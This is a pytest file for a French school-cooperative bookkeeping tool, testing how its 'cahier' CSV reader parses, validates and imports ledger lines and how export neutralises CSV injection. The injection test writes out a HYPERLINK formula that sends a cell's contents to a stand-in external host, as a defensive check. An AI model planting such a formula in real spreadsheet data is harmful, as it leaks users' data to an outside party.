"""The cahier CSV reader: every accepted form, every refusal located, all-or-nothing import."""
from datetime import date

import pytest

from retkoop_widgets.domain.chart import default_chart
from retkoop_widgets.domain.entry import EntryDraft, VentilationLine as V
from retkoop_widgets.domain.errors import ValidationError
from retkoop_widgets.domain.money import format_eur
from retkoop_widgets.io.cahier_csv import parse_cahier

from conftest import COOP, EX

CHART = default_chart()
NBSP, NNBSP = "\u00a0", "\u202f"

HEADER = ("Pièce;Date;Libellé;Tiers;Mode;N° chèque;Banque entrée;Banque sortie;Caisse entrée;"
          "Caisse sortie;Pointé;62810008 Cotisation OCCE;61681;6181 Documentation;"
          "7560 Participation volontaire des familles;7410")


def _csv(*rows: str, header: str = HEADER, eol: str = "\r\n") -> str:
    return eol.join((header,) + rows) + eol


def test_every_accepted_form_is_read():
    text = _csv(
        'R01;12/09/2025;"Participation; classe de CP";"Familles ""CP""";chèque;;1 250,00;;;;oui;;;;1 250,00;',
        "D01;03/10/2025;Facture OCCE;OCCE 76;Chèque;4521001;;174,50;;;31/10/2025;150;15,00;9,5;;",
        f"R02;06/11/2025;Subvention mairie;Mairie;virement;;1{NBSP}200,00;;;;X;;;;;1{NNBSP}200",
        ";15/12/2025;Marché de Noël;;espèces;;;;364,20;;;;;;364,20;",
        "D02;19/12/2025;Remise d'espèces en banque;;;;300,00;;;300,00;;;;;;",
        ";;;;;;;;;;;;;;;",  # an empty line is ignored
    )
    drafts = parse_cahier(("\ufeff" + text).encode("utf-8"), CHART)
    assert [w for w, _ in drafts] == ["ligne 2 (pièce R01)", "ligne 3 (pièce D01)", "ligne 4 (pièce R02)",
                                      "ligne 5", "ligne 6 (pièce D02)"]
    r01, d01, r02, cash, transfer = (d for _, d in drafts)
    assert r01 == EntryDraft(date(2025, 9, 12), "Participation; classe de CP", "R01", 'Familles "CP"',
                             "chèque", "", bank_in=125000, ventilation=(V("7560", 125000),), pointed=True)
    assert d01.mode == "chèque" and d01.cheque == "4521001" and d01.bank_out == 17450
    assert d01.ventilation == (V("6281", 15000), V("61681", 1500), V("6181", 950))
    assert d01.pointed and d01.statement_date == date(2025, 10, 31)
    assert r02.bank_in == 120000 and r02.ventilation == (V("7410", 120000),) and r02.pointed
    assert r02.statement_date is None
    assert cash.piece == "" and cash.cash_in == 36420 and not cash.pointed
    assert transfer.bank_in == 30000 and transfer.cash_out == 30000 and transfer.ventilation == ()


def test_lf_crlf_cr_bom_and_str_or_bytes_give_the_same_drafts():
    rows = ('D01;03/10/2025;"Facture; OCCE";;chèque;1;;174,50;;;;150,00;15,00;9,50;;',
            'D02;04/10/2025;Facture;;chèque;2;;174,50;;;;150,00;15,00;9,50;;')
    crlf = parse_cahier(_csv(*rows), CHART)
    lf = parse_cahier(_csv(*rows, eol="\n"), CHART)
    cr = parse_cahier(_csv(*rows, eol="\r"), CHART)
    bom = parse_cahier(b"\xef\xbb\xbf" + _csv(*rows).encode(), CHART)
    assert crlf == lf == cr == bom
    assert crlf[0][1].libelle == "Facture; OCCE"


def test_a_text_spanning_lines_is_refused_with_the_line_where_its_quote_opened():
    """A cahier line is one line: a cell typed over two lines in a spreadsheet is refused
    (the reader would otherwise have to guess where each record ends)."""
    rows = ('D01;03/10/2025;"Facture\nsur deux lignes";;chèque;1;;174,50;;;;150,00;15,00;9,50;;',
            'D02;04/10/2025;Facture;;chèque;2;;174,50;;;;150,00;15,00;9,50;;')
    with pytest.raises(ValidationError) as info:
        parse_cahier(_csv(*rows), CHART)
    (msg,) = [str(p) for p in info.value.problems]
    assert msg.startswith("ligne 2 (pièce D01) : colonne 3 « Libellé » : le texte entre guillemets")
    assert "continue jusqu'à la ligne 3" in msg


def test_headers_without_accents_in_any_case_and_any_order():
    header = "DATE;libelle;PIECE;Banque Sortie;no cheque;MODE;pointe;Action;6281;61681008 Assurance;6181"
    drafts = parse_cahier(_csv("03/10/2025;Facture OCCE;D014;174,50;12;chq;;Adhésion;150;15;9,50",
                               header=header), CHART)
    (where, d), = drafts
    assert where == "ligne 2 (pièce D014)"
    assert d.mode == "chèque" and d.cheque == "12" and d.bank_out == 17450
    assert d.ventilation == (V("6281", 15000, "Adhésion"), V("61681", 1500, "Adhésion"),
                             V("6181", 950, "Adhésion"))


def test_every_problem_of_the_file_is_reported_with_line_and_piece():
    header = HEADER + ";Remarques;6999 Compte inventé;512"
    text = _csv(
        "R01;12/09/2025;Participation;;chèque;;250,00;;;;;;;;250,00;;;;",
        "R02;31/02/2026;Date impossible;;;;10,00;;;;;;;;10,00;;;;",
        "D03;03/10/2025;Montant illisible;;;;;17,4,5;;;;;;;;;;;",
        "D04;04/10/2025;Facture OCCE;;chèque;7;;174,50;;;;150,00;15,00;9,49;;;;;",
        "D05;05/10/2025;Pointage bizarre;;;;;10,00;;;peut-être;;;10,00;;;;;",
        header=header)
    with pytest.raises(ValidationError) as info:
        parse_cahier(text, CHART)
    messages = [str(p) for p in info.value.problems]
    text_all = "\n".join(messages)
    assert "colonne 17 « Remarques » inconnue" in text_all
    assert "compte 6999 inconnu du plan comptable" in text_all
    assert "le compte 512 est un compte de trésorerie" in text_all
    assert any(m.startswith("ligne 3 (pièce R02) : date « 31/02/2026 » invalide") for m in messages)
    assert any(m.startswith("ligne 4 (pièce D03) : Banque sortie : « 17,4,5 »") for m in messages)
    assert any(m.startswith("ligne 5 (pièce D04) : la ventilation totalise 174,49") and "il manque 0,01" in m
               for m in messages)
    assert any(m.startswith("ligne 6 (pièce D05) : Pointé « peut-être »") for m in messages)
    assert not any("ligne 2 (" in m for m in messages)  # the good line has nothing to report


def test_a_file_that_is_not_utf8_is_refused_in_french():
    text = _csv("R01;12/09/2025;Fête de l'école;;;;250,00;;;;;;;;250,00;",
                header=HEADER.replace("è", "e").replace("é", "e").replace("°", "o")).encode("cp1252")
    with pytest.raises(ValidationError) as info:
        parse_cahier(text, CHART)
    assert "UTF-8" in str(info.value) and "ligne 2" in str(info.value)


def test_missing_columns_and_unclosed_quote_are_reported():
    with pytest.raises(ValidationError) as info:
        parse_cahier("Pièce;Libellé;7560\r\n1;x;10\r\n", CHART)
    assert "la colonne Date est obligatoire" in str(info.value)
    assert "aucune colonne de mouvement" in str(info.value)
    with pytest.raises(ValidationError) as info:
        parse_cahier("", CHART)
    assert "vide" in str(info.value)


def test_a_file_with_one_wrong_line_imports_nothing(books):
    books.record_entry(COOP, EX, EntryDraft(date(2025, 9, 5), "Déjà là", bank_in=1000,
                                            ventilation=(V("7560", 1000),)))
    before = books.entries(COOP, EX)
    text = _csv(
        "R01;12/09/2025;Participation des familles;Familles;chèque;;250,00;;;;;;;;250,00;",
        "D014;03/10/2025;Facture OCCE;OCCE 76;chèque;4521001;;174,50;;;;150,00;15,00;9,49;;",
        ";15/12/2025;Marché de Noël;;espèces;;;;364,20;;;;;;364,20;",
    )
    drafts = parse_cahier(text, books.chart(COOP))  # well-formed: the gap is for the books to find
    with pytest.raises(ValidationError) as info:
        books.import_drafts(COOP, EX, drafts, source="cahier.csv")
    message = str(info.value)
    assert message == (f"ligne 3 (pièce D014) : la ventilation totalise {format_eur(17449)} pour un montant "
                       f"de {format_eur(17450)} : il manque {format_eur(1)}")
    assert format_eur(1).startswith("0,01") and format_eur(1).endswith("€")
    assert books.entries(COOP, EX) == before


def test_a_good_file_imports_every_line_and_numbers_empty_pieces(books):
    text = _csv(
        "R01;12/09/2025;Participation des familles;Familles;chèque;;250,00;;;;30/09/2025;;;;250,00;",
        "D01;03/10/2025;Facture OCCE;OCCE 76;chèque;4521001;;174,50;;;oui;150,00;15,00;9,50;;",
        ";15/12/2025;Marché de Noël;;espèces;;;;364,20;;;;;;364,20;",
        ";19/12/2025;Remise en banque;;;;300,00;;;300,00;;;;;;",
    )
    saved = books.import_drafts(COOP, EX, parse_cahier(text, books.chart(COOP)))
    assert [e.piece for e in saved] == ["R01", "D01", "001", "002"]
    crf = books.crf(COOP, EX)
    assert crf.total_produits == 25000 + 36420 and crf.total_charges == 17450
    assert (crf.closing_bank, crf.closing_cash) == (184237 + 25000 - 17450 + 30000, 6350 + 36420 - 30000)
    pointed = {e.piece: (e.pointed, e.statement_date) for e in books.entries(COOP, EX)}
    assert pointed["R01"] == (True, date(2025, 9, 30)) and pointed["D01"] == (True, None)
    assert pointed["002"] == (False, None)


def test_import_reports_exercice_problems_with_their_line(books):
    text = _csv(
        "R01;12/09/2024;Participation hors exercice;;;;250,00;;;;;;;;250,00;",
        "R01;13/09/2025;Même pièce;;;;10,00;;;;;;;;10,00;",
        "R02;14/09/2025;Charge sur une recette;;;;10,00;;;;;10,00;;;;",
    )
    with pytest.raises(ValidationError) as info:
        books.import_drafts(COOP, EX, parse_cahier(text, books.chart(COOP)))
    messages = [str(p) for p in info.value.problems]
    assert messages[0].startswith("ligne 2 (pièce R01) : la date 12/09/2024 est hors de l'exercice 2025-2026")
    assert any(m.startswith("ligne 4 (pièce R02) : ventilation ligne 1 : le compte 6281") for m in messages)
    assert books.entries(COOP, EX) == []


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(books):
    """CSV injection: a libellé or tiers starting with = + - @ is written with the
    spreadsheets' text mark (a leading apostrophe) and read back exactly as typed."""
    from retkoop_widgets.io.cahier_csv import export_cahier
    typed = {"libelle": '=HYPERLINK("http://x.example/?"&A1;"Facture")', "tiers": "@Mairie"}
    books.record_entry(COOP, EX, EntryDraft(date(2025, 10, 3), typed["libelle"], tiers=typed["tiers"],
                                            mode="chèque", cheque="4521001", bank_out=17450,
                                            ventilation=(V("6281", 17450, "-5 % remise"),)))
    books.record_entry(COOP, EX, EntryDraft(date(2025, 10, 4), "'Les Amis' (apostrophes gardées)",
                                            tiers="'=déjà marqué", mode="espèces", cash_in=1000,
                                            ventilation=(V("7560", 1000),)))
    text = export_cahier(books.entries(COOP, EX), books.chart(COOP))
    assert "'=HYPERLINK" in text and ";'@Mairie;" in text and "'-5 % remise" in text
    assert ";''=déjà marqué;" in text and ";'Les Amis' (apostrophes gardées);" in text
    import csv
    cells = [c for row in csv.reader(text.lstrip("\ufeff").splitlines(), delimiter=";") for c in row if c]
    assert not [c for c in cells if c[0] in "=+-@"]  # no cell of the file starts a formula
    again = [d for _, d in parse_cahier(text, books.chart(COOP))]
    assert (again[0].libelle, again[0].tiers, again[0].ventilation[0].action) == \
        (typed["libelle"], typed["tiers"], "-5 % remise")
    assert (again[1].libelle, again[1].tiers) == ("'Les Amis' (apostrophes gardées)", "'=déjà marqué")
